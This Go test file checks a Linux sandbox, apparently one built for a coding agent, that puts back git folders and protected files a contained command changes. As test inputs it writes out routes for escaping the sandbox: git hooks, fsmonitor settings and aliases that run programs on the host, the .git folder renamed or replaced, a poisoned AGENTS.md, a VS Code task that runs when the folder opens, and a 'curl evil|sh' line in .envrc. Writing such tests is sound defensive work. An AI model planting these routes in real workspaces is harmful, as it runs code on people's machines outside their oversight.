//go:build linux

package sandbox

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// gitInit makes dir a repository with one commit, its config and a hook
// of the person's own.
func gitInit(t *testing.T, dir string) {
	t.Helper()
	for _, args := range [][]string{
		{"init", "-q", "."},
		{"-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "init"},
		{"config", "user.name", "person"},
	} {
		cmd := exec.Command("git", args...)
		cmd.Dir = dir
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v %s", args, err, out)
		}
	}
	os.WriteFile(filepath.Join(dir, ".git", "hooks", "pre-commit"), []byte("#!/bin/sh\nexit 0\n"), 0o755)
}

// runReleased runs script contained and returns its output, exit code and
// what its release said.
func runReleased(t *testing.T, s *Sandbox, dir, script string) (string, int, []string) {
	t.Helper()
	cmd, release := commandFor(t, s, dir, script)
	out, err := cmd.CombinedOutput()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	}
	return string(out), code, release()
}

// plant is what each route ends with: a hook and an fsmonitor in the git
// folder at g (relative to the command's folder).
func plant(g string) string {
	return "printf '#!/bin/sh\\ntouch MARK\\n' > " + g + "/hooks/post-commit; chmod +x " + g + "/hooks/post-commit; " +
		"printf '[core]\\n\\tfsmonitor = touch MARK\\n' >> " + g + "/config"
}

// Each route a command may take to change what git runs in the workspace
// (a nested repository's folder included) ends with the git folder as it
// was, and the result naming it.
func TestSealRoutes(t *testing.T) {
	// Scripts run in the workspace; repo is the repository they aim at.
	routes := []struct{ name, script, repo string }{
		{"rename of .git, copy back", "mv .git .gitx && cp -a .gitx .git && rm -rf .gitx; " + plant(".git"), "."},
		{"write straight in", plant(".git"), "."},
		{"git init over it", "git init -q . ; " + plant(".git"), "."},
		{"tar extract over it", "mkdir -p /tmp/x/.git/hooks && printf '[core]\\n\\tfsmonitor = touch MARK\\n' > /tmp/x/.git/config && printf '#!/bin/sh\\ntouch MARK\\n' > /tmp/x/.git/hooks/post-commit && tar -C /tmp/x -cf /tmp/x.tar .git && tar -xf /tmp/x.tar", "."},
		{"a .git file pointing elsewhere", "mv .git .gitx ; rm -rf .git; echo 'gitdir: .gitx' > .git ; " + plant(".gitx"), "."},
		{"nested: write straight in", plant("sub/repo/.git"), "sub/repo"},
		{"nested: rename of .git", "mv sub/repo/.git sub/repo/.gitx && cp -a sub/repo/.gitx sub/repo/.git; " + plant("sub/repo/.git"), "sub/repo"},
		{"nested: rename of the parent folder", "mv sub subx && cp -a subx sub && rm -rf subx; " + plant("sub/repo/.git"), "sub/repo"},
		{"nested: rename of a folder two up, git init", "mv sub subx && mkdir -p sub/repo && git -C sub/repo init -q && " + plant("sub/repo/.git"), "sub/repo"},
		{"nested: python script", `mv sub s2 && python3 -c "
import shutil, os
shutil.copytree('s2', 'sub', symlinks=True)
open('sub/repo/.git/config','a').write('[core]\n\tfsmonitor = touch MARK\n')
open('sub/repo/.git/hooks/post-commit','w').write('#!/bin/sh\ntouch MARK\n')
os.chmod('sub/repo/.git/hooks/post-commit', 0o755)
shutil.rmtree('s2')"`, "sub/repo"},
		{"nested: perl script", `mv sub s3 && perl -e '
system("cp", "-a", "s3", "sub");
open(my $f, ">>", "sub/repo/.git/config"); print $f "[core]\n\tfsmonitor = touch MARK\n"; close $f;
open($f, ">", "sub/repo/.git/hooks/post-commit"); print $f "#!/bin/sh\ntouch MARK\n"; close $f; chmod 0755, "sub/repo/.git/hooks/post-commit"'`, "sub/repo"},
		{"a file the config includes", "printf '[core]\\n\\tfsmonitor = touch MARK\\n' >> team.gitconfig", "."},
		{"nested: git -C from elsewhere", "mv sub s4 && cp -a s4 sub && git -C sub/repo config core.fsmonitor 'touch MARK' && git -C sub/repo config alias.st '!touch MARK'", "sub/repo"},
	}
	for _, r := range routes {
		t.Run(r.name, func(t *testing.T) {
			tr := newTree(t)
			repo := filepath.Join(tr.ws, r.repo)
			os.MkdirAll(repo, 0o755)
			gitInit(t, tr.ws)
			if r.repo != "." {
				gitInit(t, repo)
			}
			// The person's config includes a file of the work tree.
			os.WriteFile(filepath.Join(tr.ws, "team.gitconfig"), []byte("[user]\n\tname = team\n"), 0o644)
			exec.Command("git", "-C", tr.ws, "config", "include.path", "../team.gitconfig").Run()
			tr.policy.ReadOnly = readOnlyUnder(nil, tr.ws, nil, "", tr.policy.WritableRoots())
			s := mustSandbox(t, tr.policy, Bwrap)
			t.Cleanup(s.Close)
			before, _ := os.ReadFile(filepath.Join(repo, ".git", "config"))
			mark := filepath.Join(tr.root, "ran")
			out, code, notes := runReleased(t, s, tr.ws, strings.ReplaceAll(r.script, "MARK", mark))
			t.Logf("exit %d: %s\nnotes: %q", code, out, notes)
			after, err := os.ReadFile(filepath.Join(repo, ".git", "config"))
			if err != nil || string(after) != string(before) {
				t.Errorf("config after: %q, %v", after, err)
			}
			if _, err := os.Lstat(filepath.Join(repo, ".git", "hooks", "post-commit")); err == nil {
				t.Error("the planted hook is still there")
			}
			if fi, err := os.Lstat(filepath.Join(repo, ".git")); err != nil || !fi.IsDir() {
				t.Errorf(".git is no longer a folder: %v", err)
			}
			// The person's next git status and commit on the machine run
			// nothing the command planted.
			for _, args := range [][]string{{"status"}, {"-c", "user.email=a@b", "-c", "user.name=a", "commit", "-q", "--allow-empty", "-m", "next"}, {"st"}} {
				cmd := exec.Command("git", args...)
				cmd.Dir = repo
				cmd.Run()
			}
			if _, err := os.Stat(mark); err == nil {
				t.Error("the planted program ran on the machine")
			}
			// Refused (the command's own error says so, and the result's
			// note when a rename was), or undone and named.
			refused := code != 0 && (strings.Contains(out, "Read-only file system") || strings.Contains(out, "Device or resource busy"))
			if code != 0 && strings.Contains(out, "Device or resource busy") && !strings.Contains(s.Explain(out, code, tr.ws), "cannot be renamed, replaced or removed") {
				t.Errorf("a refused rename is not explained: %q in %q", s.Explain(out, code, tr.ws), out)
			}
			if len(notes) == 0 && !refused {
				t.Errorf("nothing said about the change (exit %d)", code)
			}
		})
	}
}

// A repository a command makes is kept, without the hooks and the config
// lines that would run a program on the machine; a .git file pointing
// to a folder the command filled is cleaned the same way.
func TestSealNewRepository(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	mark := filepath.Join(tr.root, "ran")
	runReleased(t, s, tr.ws, "true") // the first look, before the command
	script := "mkdir -p new && git -C new init -q && git -C new config core.fsmonitor 'touch MARK' && git -C new config alias.st '!touch MARK' && " +
		"git -C new config user.name model && printf '#!/bin/sh\\ntouch MARK\\n' > new/.git/hooks/pre-commit && chmod +x new/.git/hooks/pre-commit && " +
		"mkdir -p other && git init -q --bare /tmp/gd && git -C /tmp/gd config core.fsmonitor 'touch MARK' && cp -a /tmp/gd other/.gd && echo 'gitdir: .gd' > other/.git"
	out, code, notes := runReleased(t, s, tr.ws, strings.ReplaceAll(script, "MARK", mark))
	t.Logf("exit %d: %s\nnotes: %q", code, out, notes)
	if code != 0 {
		t.Fatal("the command failed")
	}
	for _, dir := range []string{"new", "other"} {
		cfg, _ := exec.Command("git", "config", "--file", filepath.Join(tr.ws, dir, map[string]string{"new": ".git", "other": ".gd"}[dir], "config"), "--list").Output()
		if strings.Contains(string(cfg), "fsmonitor") || strings.Contains(string(cfg), "alias") {
			t.Errorf("%s config still has: %s", dir, cfg)
		}
	}
	if !strings.Contains(string(must(exec.Command("git", "-C", filepath.Join(tr.ws, "new"), "config", "user.name").Output())), "model") {
		t.Error("the harmless config was lost")
	}
	if _, err := os.Lstat(filepath.Join(tr.ws, "new", ".git", "hooks", "pre-commit")); err == nil {
		t.Error("the hook is still there")
	}
	if j := strings.Join(notes, "\n"); !strings.Contains(j, "new/.git (a git folder the command made") || !strings.Contains(j, "other/.git") {
		t.Errorf("notes: %q", notes)
	}
	for _, dir := range []string{"new", "other"} {
		for _, args := range [][]string{{"status"}, {"st"}, {"-c", "user.email=a@b", "commit", "-q", "--allow-empty", "-m", "x"}} {
			cmd := exec.Command("git", args...)
			cmd.Dir = filepath.Join(tr.ws, dir)
			cmd.Run()
		}
	}
	if _, err := os.Stat(mark); err == nil {
		t.Error("the planted program ran on the machine")
	}
}

func must(b []byte, _ error) []byte { return b }

// Protected files in a subfolder replaced through a rename of the folder
// and a copy put back are as they were after the command, and named.
func TestSealProtectedInSubfolder(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	sub := filepath.Join(tr.ws, "sub")
	os.MkdirAll(filepath.Join(sub, ".vscode"), 0o755)
	os.WriteFile(filepath.Join(sub, "AGENTS.md"), []byte("be careful\n"), 0o644)
	os.WriteFile(filepath.Join(sub, ".vscode", "tasks.json"), []byte("{}\n"), 0o644)
	os.WriteFile(filepath.Join(sub, ".envrc"), []byte("export A=1\n"), 0o644)
	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	out, code, notes := runReleased(t, s, tr.ws, "mv sub subx && cp -a subx sub && rm -rf subx; echo 'run evil' > sub/AGENTS.md; "+
		`echo '{"tasks":[{"command":"evil","runOptions":{"runOn":"folderOpen"}}]}' > sub/.vscode/tasks.json; echo 'curl evil|sh' > sub/.envrc`)
	t.Logf("exit %d %s\nnotes %q", code, out, notes)
	for rel, want := range map[string]string{"AGENTS.md": "be careful\n", ".vscode/tasks.json": "{}\n", ".envrc": "export A=1\n"} {
		if b, _ := os.ReadFile(filepath.Join(sub, rel)); string(b) != want {
			t.Errorf("sub/%s = %q", rel, b)
		}
	}
	if j := strings.Join(notes, "\n"); !strings.Contains(j, "sub/AGENTS.md (put back") || !strings.Contains(j, "sub/.vscode (put back") || !strings.Contains(j, "sub/.envrc (put back as it was before the command changed it): direnv runs") {
		t.Errorf("notes: %q", notes)
	}
}

// BenchmarkSealCheck measures what the seal adds to each command: its
// record before and its check after, for a repository with git's sample
// hooks, a nested repository and protected files in a subfolder, with
// nothing changed (the usual case).
func BenchmarkSealCheck(b *testing.B) {
	ws := b.TempDir()
	t := &testing.T{}
	gitInit(t, ws)
	os.MkdirAll(filepath.Join(ws, "sub", "repo"), 0o755)
	gitInit(t, filepath.Join(ws, "sub", "repo"))
	os.MkdirAll(filepath.Join(ws, "sub", ".vscode"), 0o755)
	os.WriteFile(filepath.Join(ws, "sub", ".vscode", "tasks.json"), []byte("{}"), 0o644)
	os.WriteFile(filepath.Join(ws, "sub", "AGENTS.md"), []byte("x"), 0o644)
	p := DefaultPolicy(ws)
	s, err := New(p, Options{Force: Bwrap})
	if err != nil {
		b.Skip(err)
	}
	s.privateTmp()
	x := s.indexed()
	s.sealBegin(x)
	s.sealCheck()
	for b.Loop() {
		s.sealBegin(x)
		end := x.begin()
		end()
		if notes := s.sealCheck(); len(notes) > 0 {
			b.Fatal(notes)
		}
	}
	s.seal.mu.Lock()
	b.ReportMetric(float64(len(s.seal.saved)), "paths")
	s.seal.mu.Unlock()
}

// What a command the person allowed to run outside the sandbox changes in
// .git (a remote added) is theirs: kept, and the saved copy from then on.
func TestSealKeepsUncontainedChanges(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	runReleased(t, s, tr.ws, "true")
	u := s.Uncontained()
	argv, release, err := u.Command([]string{"bash", "-c", "git remote add origin https://example.com/r.git"}, tr.ws)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = tr.ws
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%v %s", err, out)
	}
	resealRunning() // as before a git call of aci's: nothing to put back
	release()
	if _, _, notes := runReleased(t, s, tr.ws, "true"); len(notes) > 0 {
		t.Errorf("notes: %q", notes)
	}
	if out, _ := exec.Command("git", "-C", tr.ws, "remote", "get-url", "origin").Output(); !strings.Contains(string(out), "example.com") {
		t.Errorf("the remote the person allowed is gone: %q", out)
	}
}

// What a long command or background task plants in a git folder is put
// back while it still runs (the periodic look), not only at its end.
func TestSealWhileRunning(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	os.MkdirAll(filepath.Join(tr.ws, "sub", "repo"), 0o755)
	gitInit(t, filepath.Join(tr.ws, "sub", "repo"))
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	cfg := filepath.Join(tr.ws, "sub", "repo", ".git", "config")
	before, _ := os.ReadFile(cfg)
	cmd, release := startCommand(t, s, tr.ws, "sleep 0.3; mv sub subx && cp -a subx sub; echo '[core] fsmonitor = evil' >> sub/repo/.git/config; sleep 8")
	planted := false
	restored := false
	for end := time.Now().Add(watchEvery + 4*time.Second); time.Now().Before(end); time.Sleep(20 * time.Millisecond) {
		b, _ := os.ReadFile(cfg)
		if strings.Contains(string(b), "evil") {
			planted = true
		} else if planted && string(b) == string(before) {
			restored = true
			break
		}
	}
	cmd.Process.Kill()
	cmd.Wait()
	notes := release()
	if !planted || !restored {
		t.Errorf("planted %v, put back while running %v", planted, restored)
	}
	if j := strings.Join(notes, "\n"); !strings.Contains(j, "sub/repo/.git/config (put back") {
		t.Errorf("notes: %q", notes)
	}
}

// What the person changes in place while a command runs, in files no
// contained command could change (the root repository's config, a
// protected file bound for the running command), is theirs: kept, not
// put back.
func TestSealKeepsThePersonsChanges(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	os.MkdirAll(filepath.Join(tr.ws, "sub"), 0o755)
	os.WriteFile(filepath.Join(tr.ws, "sub", "AGENTS.md"), []byte("rules\n"), 0o644)
	tr.policy.ReadOnly = readOnlyUnder(nil, tr.ws, nil, "", tr.policy.WritableRoots())
	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	runReleased(t, s, tr.ws, "true")
	time.Sleep(10 * time.Millisecond)
	argv, release, err := s.Command([]string{"bash", "-c", "sleep 1"}, tr.ws)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = tr.ws
	cmd.Start()
	appendTo := func(p, text string) {
		f, err := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
		if err != nil {
			t.Fatal(err)
		}
		f.WriteString(text)
		f.Close()
	}
	appendTo(filepath.Join(tr.ws, ".git", "config"), "[branch \"main\"]\n\tremote = origin\n")
	appendTo(filepath.Join(tr.ws, "sub", "AGENTS.md"), "more rules\n")
	cmd.Wait()
	if notes := release(); len(notes) > 0 {
		t.Errorf("the person's changes were taken for the command's: %q", notes)
	}
	if b, _ := os.ReadFile(filepath.Join(tr.ws, "sub", "AGENTS.md")); string(b) != "rules\nmore rules\n" {
		t.Errorf("sub/AGENTS.md = %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(tr.ws, ".git", "config")); !strings.Contains(string(b), "remote = origin") {
		t.Errorf(".git/config lost the person's change: %q", b)
	}
}

// aci's own write of a protected file (a file window, asked of the
// person) while a command runs is kept, though it replaces the file.
func TestSealKeepsAcisOwnWrite(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	os.MkdirAll(filepath.Join(tr.ws, "sub"), 0o755)
	agents := filepath.Join(tr.ws, "sub", "AGENTS.md")
	os.WriteFile(agents, []byte("rules\n"), 0o644)
	tr.policy.Protected, tr.policy.StandIns = protectedCandidates(tr.ws, tr.ws)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	runReleased(t, s, tr.ws, "true")
	argv, release, err := s.Command([]string{"bash", "-c", "sleep 0.5"}, tr.ws)
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(argv[0], argv[1:]...)
	cmd.Dir = tr.ws
	cmd.Start()
	tmp := filepath.Join(tr.ws, "sub", ".AGENTS.md.aci-0123")
	os.WriteFile(tmp, []byte("new rules\n"), 0o644)
	done := NoteTemp(tmp)
	resealRunning() // a check between the write and its end
	os.Rename(tmp, agents)
	done()
	resealRunning()
	cmd.Wait()
	if notes := release(); len(notes) > 0 {
		t.Errorf("aci's own write was taken for the command's: %q", notes)
	}
	if b, _ := os.ReadFile(agents); string(b) != "new rules\n" {
		t.Errorf("sub/AGENTS.md = %q", b)
	}
}

// A repository the person removes while nothing runs stays removed: the
// seal does not make its git folder again.
func TestSealLetsThePersonRemoveARepository(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	os.MkdirAll(filepath.Join(tr.ws, "sub", "repo"), 0o755)
	gitInit(t, filepath.Join(tr.ws, "sub", "repo"))
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	runReleased(t, s, tr.ws, "true")
	os.RemoveAll(filepath.Join(tr.ws, "sub", "repo", ".git"))
	if _, _, notes := runReleased(t, s, tr.ws, "true"); len(notes) > 0 {
		t.Errorf("notes: %q", notes)
	}
	if _, err := os.Lstat(filepath.Join(tr.ws, "sub", "repo", ".git")); err == nil {
		t.Error("the removed .git was made again")
	}
}

// A command that moves a folder holding a repository (reorganising a
// project) keeps it whole at its new place: its hooks stay, its old place
// is not made again, and nothing is put back.
func TestSealRepositoryMoved(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	repo := filepath.Join(tr.ws, "vendor2", "lib")
	os.MkdirAll(repo, 0o755)
	gitInit(t, repo)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	runReleased(t, s, tr.ws, "true")
	out, code, notes := runReleased(t, s, tr.ws, "mv vendor2/lib lib && echo '[core] fsmonitor = evil' >> lib/.git/config")
	t.Logf("exit %d %s notes %q", code, out, notes)
	if _, err := os.Lstat(filepath.Join(tr.ws, "lib", ".git", "hooks", "pre-commit")); err != nil {
		t.Error("the moved repository lost its hook")
	}
	if _, err := os.Lstat(repo); err == nil {
		t.Error("the old place was made again")
	}
	if b, _ := os.ReadFile(filepath.Join(tr.ws, "lib", ".git", "config")); strings.Contains(string(b), "evil") {
		t.Errorf("the moved repository's config: %s", b)
	}
	if _, _, notes := runReleased(t, s, tr.ws, "true"); len(notes) > 0 {
		t.Errorf("the next command: %q", notes)
	}
}

// A repository moved with its folder and then changed where no bind held
// it (one made after the session's sandbox started) is put back at its
// new place.
func TestSealMovedAndChanged(t *testing.T) {
	tr := newTree(t)
	gitInit(t, tr.ws)
	repo := filepath.Join(tr.ws, "sub", "repo")
	os.MkdirAll(repo, 0o755)
	gitInit(t, repo)
	s := mustSandbox(t, tr.policy, Bwrap)
	t.Cleanup(s.Close)
	runReleased(t, s, tr.ws, "true")
	x := s.indexed()
	s.sealBegin(x)
	end := x.begin() // a command runs: what follows is its doing
	os.Rename(filepath.Join(tr.ws, "sub"), filepath.Join(tr.ws, "subx"))
	cfg := filepath.Join(tr.ws, "subx", "repo", ".git", "config")
	before, _ := os.ReadFile(cfg)
	f, _ := os.OpenFile(cfg, os.O_APPEND|os.O_WRONLY, 0)
	f.WriteString("[core]\n\tfsmonitor = evil\n")
	f.Close()
	end()
	x.look()
	notes := s.sealCheck()
	if b, _ := os.ReadFile(cfg); string(b) != string(before) {
		t.Errorf("config at the new place: %s (notes %q)", b, notes)
	}
	if j := strings.Join(notes, "\n"); !strings.Contains(j, "subx/repo/.git/config (moved with its folder, and put back") {
		t.Errorf("notes: %q", notes)
	}
	if _, err := os.Lstat(repo); err == nil {
		t.Error("the old place was made again")
	}
}
